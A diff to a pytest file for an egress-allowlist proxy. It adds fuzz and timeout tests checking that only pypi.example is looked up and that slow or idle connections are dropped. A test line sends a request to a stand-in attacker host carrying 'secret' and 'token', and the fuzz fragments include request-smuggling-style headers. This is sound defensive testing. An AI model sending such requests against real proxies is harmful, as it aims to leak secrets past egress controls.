@@ -6,6 +6,10 @@ from collections.abc import Callable
 
 import pytest
 from egress_place import Proxy, Server, rest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from inarch_egress import exchange
 
 Servers = Callable[..., Server]
 Proxies = Callable[..., Proxy]
@@ -278,3 +282,55 @@ def test_what_is_told_is_bounded_and_says_nothing_of_paths(make_proxy: Proxies) 
         proxy.say(b"GET http://%d.evil.example/secret?token=1 HTTP/1.1\r\nHost: x\r\n\r\n" % number)
     assert len(proxy.told) == 200
     assert not any("secret" in target + why or "token" in target + why for target, why in proxy.told)
+
+
+PIECES = st.sampled_from(
+    [
+        b"CONNECT ", b"GET ", b"POST ", b"http://", b"https://", b"pypi.example", b"evil.example", b"127.0.0.1",
+        b"[::1]", b":%d", b":80", b"/", b"@", b"?", b"#", b"%2e", b".", b" HTTP/1.1\r\n", b" HTTP/1.0\r\n",
+        b"Host: x\r\n", b"Content-Length: 3\r\n", b"Transfer-Encoding: chunked\r\n", b"Connection: keep-alive\r\n",
+        b"\r\n", b"\n", b"\r", b"0\r\n\r\n", b"3\r\nabc\r\n", b"abc", b"\x00", b"\t", b" ", b"\xff",
+    ]
+)  # fmt: skip
+
+
+@settings(max_examples=3 * settings().max_examples, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(pieces=st.lists(PIECES, max_size=24), start=st.sampled_from([b"", b"CONNECT ", b"GET http://"]))
+def test_whatever_is_said_only_the_listed_name_is_looked_up_and_the_proxy_serves_on(
+    whatever: tuple[Proxy, Server, Server], pieces: list[bytes], start: bytes
+) -> None:
+    proxy, server, other = whatever
+    said = (start + b"".join(pieces)).replace(b"%d", b"%d" % other.port)
+    answer = proxy.say(said)
+    assert not answer or answer.startswith(b"HTTP/1.1 ")
+    assert not other.came and set(proxy.asked) <= {"pypi.example"}
+    assert b" 200 " in proxy.say(b"GET http://pypi.example:%d/ HTTP/1.0\r\n\r\n" % server.port)
+
+
+@pytest.fixture
+def whatever(make_proxy: Proxies, make_server: Servers) -> tuple[Proxy, Server, Server]:
+    """A proxy, the server that it leads to, and one that nothing of the list means."""
+    server, other = make_server(), make_server()
+    names = {"pypi.example": ["127.0.0.1"], "evil.example": ["127.0.0.1"]}
+    return make_proxy(f"pypi.example:{server.port}", f"127.0.0.1:{server.port}", names=names), server, other
+
+
+@pytest.mark.parametrize(
+    "sent", [b"", b"GET http://pypi", b"POST http://localhost:%d/ HTTP/1.1\r\nContent-Length: 9\r\n"]
+)
+def test_who_is_too_slow_is_let_go(
+    make_proxy: Proxies, server: Server, monkeypatch: pytest.MonkeyPatch, sent: bytes
+) -> None:
+    monkeypatch.setattr(exchange, "HEAD_S", 0.05)
+    proxy = make_proxy(f"localhost:{server.port}", names={"localhost": ["127.0.0.1"]})
+    assert proxy.say(sent.replace(b"%d", b"%d" % server.port), ends=False) == b""
+
+
+def test_a_tunnel_in_which_nothing_happens_is_closed(
+    make_proxy: Proxies, make_server: Servers, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(exchange, "IDLE_S", 0.05)
+    server = make_server(stays=True)
+    proxy = make_proxy(f"localhost:{server.port}", names={"localhost": ["127.0.0.1"]})
+    answer = proxy.say(b"CONNECT localhost:%d HTTP/1.1\r\nHost: x\r\n\r\nx" % server.port, ends=False)
+    assert answer.startswith(b"HTTP/1.1 200 ")
